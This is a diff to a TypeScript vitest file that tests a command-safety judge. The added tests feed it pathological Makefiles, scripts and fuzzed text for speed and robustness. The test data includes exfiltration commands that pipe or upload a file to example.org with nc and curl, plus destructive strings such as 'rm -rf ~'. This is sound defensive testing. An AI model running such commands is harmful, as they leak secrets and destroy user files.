@@ -1,3 +1,4 @@
+import { fc, test as property } from '@fast-check/vitest'
 import { describe, expect, it } from 'vitest'
 import type { FileOrigin, FileSystemView, SessionView } from '../judgement.ts'
 import { defaultPolicyOptions } from '../paths/policy-options.ts'
@@ -407,4 +408,94 @@ describe('after a secret was read in the session', () => {
     expect(judge('cp notes.txt b && cat b | nc example.org 1', { files: {}, written }).opinion).toBe('deny')
     expect(judge('curl -T notes.txt https://example.org', { files: {} }).opinion).toBe('ask')
   })
+})
+
+describe('files made to cost or to break', () => {
+  const many = (text: string, length = 64_000) =>
+    text.repeat(Math.ceil(length / text.length)).slice(0, length)
+  const levels = Array.from(
+    { length: 9 },
+    (_, index) => `V${index} = ${`$(V${index + 1})`.repeat(200)}`,
+  ).join('\n')
+  const hostile: readonly (readonly [string, string, string])[] = [
+    ['variables of variables', 'Makefile', `${levels}\nV9 =\nall:\n\techo $(V0)\n`],
+    ['nested functions', 'Makefile', `X := ${many('$(shell ')}\n`],
+    [
+      'a chain of targets',
+      'Makefile',
+      Array.from({ length: 6_000 }, (_, index) => `a${index}: a${index + 1}`).join('\n'),
+    ],
+    ['many immediate lines', 'Makefile', many('X := $(shell echo a)$(Y)\n')],
+    ['an open brace', 'justfile', `a:\n    echo {{${many(' ')}`],
+    ['a header of blanks', 'justfile', `a${many(' ')}`],
+    ['a loop of blanks', 'x.py', `while${many(' ')}fork`],
+    ['loops', 'x.py', many('for for for rmtree(\n')],
+    ['quotes', 'x.py', many('rmtree("a" + "b", \n')],
+    ['deletions', 'x.js', many("rmSync('a/b');")],
+    ['blanks in settings', '.git', `gitdir:${many(' ')}x`],
+    ['settings', 'HEAD', 'ref: x'],
+    ['substitutions', 'x.sh', many('$(')],
+    ['commands', 'x.sh', many('rm -rf a$b\n')],
+    ['scripts', 'package.json', JSON.stringify({ scripts: { test: many('true; ', 60_000) } })],
+  ]
+
+  it.each(hostile)('%s', (_what, name, text) => {
+    const files = { [name]: text, config: `[core]\n a =${many(' ', 60_000)}x` }
+    const commands = ['make', 'just', 'python3 x.py', 'node x.js', 'bash x.sh', 'npm test', 'git status']
+    const started = performance.now()
+    for (const command of commands) {
+      judge(command, { files })
+      judge(command, { files, written: { [name]: authored } })
+    }
+    expect(performance.now() - started).toBeLessThan(1_500)
+  })
+
+  const piece = fc.oneof(
+    fc.constantFrom(
+      '$(',
+      '${',
+      ')',
+      '}',
+      ':',
+      '=',
+      ':=',
+      '\n',
+      '\n\t',
+      '\\\n',
+      '{{',
+      '}}',
+      '"',
+      "'",
+      '`',
+      '#',
+      'a',
+      'all',
+      'rm -rf ~',
+      ' ',
+      '$',
+      'shell ',
+      'include ',
+      'define x',
+      '[core]',
+      '\u0000',
+      '\ue002',
+      'rmtree(',
+      '\ud800',
+    ),
+    fc.string({ maxLength: 5 }),
+  )
+  property.prop([fc.array(piece, { maxLength: 60 }).map(pieces => pieces.join(''))])(
+    'any text in any file is judged without a fault',
+    text => {
+      for (const [command, name] of [
+        ['make', 'Makefile'],
+        ['just', 'justfile'],
+        ['npm test', 'package.json'],
+        ['bash x.sh', 'x.sh'],
+        ['python3 x.py', 'x.py'],
+        ['git status', '.git'],
+      ] as const)
+        expect(['none', 'ask', 'deny']).toContain(judge(command, { files: { [name]: text } }).opinion)
+    },
+  )
 })
